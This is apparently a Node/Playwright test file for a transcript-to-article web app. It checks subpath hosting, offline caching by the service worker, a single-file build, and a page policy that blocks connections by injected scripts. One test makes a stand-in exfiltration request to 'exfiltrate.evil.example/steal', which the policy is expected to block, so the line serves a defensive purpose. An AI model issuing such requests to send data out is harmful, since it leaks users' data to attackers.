// Hosting: the folder works from a subpath; after the first visit the page is installable (manifest)
// and opens offline (service worker caching only our own files, never provider traffic); the single-file
// variant opens from disk. Page policy: an injected script cannot connect anywhere but the chosen
// provider; a provider on the local network works once chosen (the page reloads to allow it); a failed
// script that is not ours does not cover the app with the start-up error.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { chromium } from 'playwright-core';
import { CHROMIUM_ARGS, DIST, ROOT, waitFirstFrame, saveScreenshot } from './browser.mjs';
import { serveFolder } from './static_server.mjs';
import { startFakeProvider, GOOD_KEY } from '../fake_provider/server.mjs';

let browser, server, site, fake, fakePort;
before(async () => {
  fake = await startFakeProvider();
  fakePort = new URL(fake.base).port;
  // "ollama.lan" stands for a machine on the local network: plain http, not this machine's name.
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM || '/usr/bin/chromium', headless: true,
                                    args: [...CHROMIUM_ARGS, '--host-resolver-rules=MAP ollama.lan 127.0.0.1'] });
  site = fs.mkdtempSync(path.join(os.tmpdir(), 'talkpress-site-'));
  fs.mkdirSync(path.join(site, 'tools'));
  fs.symlinkSync(DIST, path.join(site, 'tools', 'talkpress'));
  server = await serveFolder(site);
});
after(async () => {
  await browser?.close();
  await new Promise((r) => server ? server.close(r) : r());
  await fake?.close();
  fs.rmSync(site, { recursive: true, force: true });
});

const SAMPLE = fs.readFileSync(path.join(ROOT, 'assets/samples/interview_en.txt'), 'utf8');
const base = () => `http://127.0.0.1:${server.address().port}/tools/talkpress/`;

async function open(context, url) {
  const page = await context.newPage();
  const problems = [];
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  page.on('console', (m) => { if (m.type() === 'error') problems.push(`console.error: ${m.text()}`); });
  await page.goto(url);
  await waitFirstFrame(page);
  return { page, problems };
}

test('served from /tools/talkpress/ it starts, installs its service worker there, and opens offline', async () => {
  const context = await browser.newContext();
  const requests = [];
  context.on('request', (r) => requests.push(r.url()));
  const { page, problems } = await open(context, base());
  for (const u of requests.filter((u) => u.startsWith('http://127.0.0.1:' + server.address().port)))
    assert.ok(u.startsWith(base()), `every file comes from the subpath (${u})`);
  const manifest = await page.evaluate(async () => {
    const href = document.querySelector('link[rel=manifest]').href;
    return { href, body: await (await fetch(href)).json() };
  });
  assert.equal(manifest.href, base() + 'manifest.webmanifest');
  assert.equal(manifest.body.start_url, './');
  const scope = await page.evaluate(async () => (await navigator.serviceWorker.ready).scope);
  assert.equal(scope, base());
  await page.waitForFunction(async () => {
    const c = await caches.open('talkpress-v1');
    return (await c.keys()).length >= 7;
  }, null, { timeout: 20000 });

  // A generation: provider traffic passes the worker by and is never cached.
  await page.evaluate(([t, p]) => { window.talkpress.setTranscript(t, { title: 'T' }); return window.talkpress.setProvider(p); },
                      [fs.readFileSync(path.join(ROOT, 'assets/samples/interview_en.txt'), 'utf8'),
                       { kind: 'openai', baseUrl: fake.urls.openai, apiKey: GOOD_KEY, model: 'fake-gpt' }]);
  await page.evaluate(() => window.talkpress.setSpec('blog_post_en'));
  await page.evaluate(() => window.talkpress.generate());
  const cached = await page.evaluate(async () => {
    const out = [];
    for (const name of await caches.keys()) for (const r of await (await caches.open(name)).keys()) out.push(r.url);
    return out;
  });
  for (const u of cached) assert.ok(u.startsWith(base()), `only our own files are cached (${u})`);
  assert.ok(cached.some((u) => u.endsWith('talkpress.wasm')));

  await context.setOffline(true);
  await page.reload();
  await waitFirstFrame(page);
  assert.ok((await page.evaluate(() => window.talkpress.article())).markdown.startsWith('# '), 'the article is there offline');
  await saveScreenshot(page, 'hosting-offline');
  assert.deepEqual(problems, []);
  await context.close();
});

test('the single-file variant opens from disk, drafts offline and exports', async () => {
  const out = path.join(site, 'talkpress.html');
  execFileSync(process.execPath, [path.join(ROOT, 'scripts/single_file.mjs'), DIST, out]);
  const html = fs.readFileSync(out, 'utf8');
  assert.ok(!/<script[^>]+src=/.test(html), 'no script file is loaded');
  const context = await browser.newContext();
  const requests = [];
  context.on('request', (r) => requests.push(r.url()));
  const { page, problems } = await open(context, 'file://' + out);
  // With no key, the offline draft writes the whole article from the page alone.
  await page.evaluate((t) => window.talkpress.setTranscript(t, { title: 'Signal and Noise' }), SAMPLE);
  assert.equal((await page.evaluate(() => window.talkpress.getProvider())).preset, 'offline');
  const draft = await page.evaluate(() => window.talkpress.generate());
  assert.ok(draft.markdown.startsWith('# ') && draft.markdown.length > 1000, 'a whole article drafted offline');
  assert.equal(draft.usage.requests, 0);
  assert.deepEqual(requests.filter((u) => !u.startsWith('data:')), ['file://' + out], 'nothing but the page itself is loaded');
  await page.evaluate(() => window.talkpress.setArticle('# From disk\n\nIt [works](https://example.com).\n'));
  const exported = await page.evaluate(() => window.talkpress.exportHtml());
  assert.match(exported.wechatHtml, /\[1\]/);
  await saveScreenshot(page, 'hosting-single-file');
  assert.deepEqual(problems, []);
  await context.close();
});

// A connection attempted by a script injected into the page; true when the page policy blocked it.
const blocked = (page, url) => page.evaluate(async (u) => {
  let violated = false;
  const on = (e) => { if (e.violatedDirective.startsWith('connect-src')) violated = true; };
  document.addEventListener('securitypolicyviolation', on);
  try { await fetch(u, { mode: 'no-cors' }); } catch (e) { /* blocked or unreachable */ }
  await new Promise((r) => setTimeout(r, 100));
  document.removeEventListener('securitypolicyviolation', on);
  return violated;
}, url);

test('a provider on the local network works once chosen; then nothing else can be reached', async () => {
  const context = await browser.newContext();
  const { page } = await open(context, base());
  await page.evaluate((t) => window.talkpress.setTranscript(t, { title: 'Kelp' }), SAMPLE);
  await page.evaluate(() => window.talkpress.setSpec('blog_post_en'));
  const lan = `http://ollama.lan:${fakePort}/openai/v1`;
  await page.evaluate((p) => window.talkpress.setProvider(p), { kind: 'openai', baseUrl: lan, apiKey: GOOD_KEY, model: 'fake-gpt' });
  assert.equal(await blocked(page, `http://ollama.lan:${fakePort}/x`), true, 'not reachable before the page allows it');
  // The first request to the newly chosen origin saves and reloads the page, which then allows it.
  const reloaded = page.waitForEvent('load');
  // (the page may go away before the failed run settles)
  await page.evaluate(() => window.talkpress.generate().catch((e) => e)).catch(() => {});
  await reloaded;
  await waitFirstFrame(page);
  assert.equal((await page.evaluate(() => window.talkpress.getProvider())).baseUrl, lan);
  await page.evaluate((k) => window.talkpress.setProvider({ kind: 'openai', baseUrl: window.talkpress.getProvider().baseUrl, apiKey: k, model: 'fake-gpt' }), GOOD_KEY);
  const r = await page.evaluate(() => window.talkpress.generate());
  assert.ok(r.markdown.startsWith('# '));
  assert.equal(await blocked(page, 'https://exfiltrate.evil.example/steal'), true);
  assert.equal(await blocked(page, fake.base + '/x'), true, 'not even this machine');
  await context.close();
});

test('a failed script that is not ours leaves the app working', async () => {
  const context = await browser.newContext();
  const { page, problems } = await open(context, base());
  await page.evaluate(() => new Promise((resolve) => {
    const s = document.createElement('script');
    s.src = 'https://extension.example/inject.js';   // blocked by the page policy, as an extension's would be
    s.onerror = resolve;
    document.head.appendChild(s);
    setTimeout(resolve, 2000);
  }));
  assert.equal(await page.locator('#fatal').isHidden(), true);
  assert.equal(await page.evaluate(() => window.talkpress.stats().framesRendered > 0), true);
  void problems;
  await context.close();
});
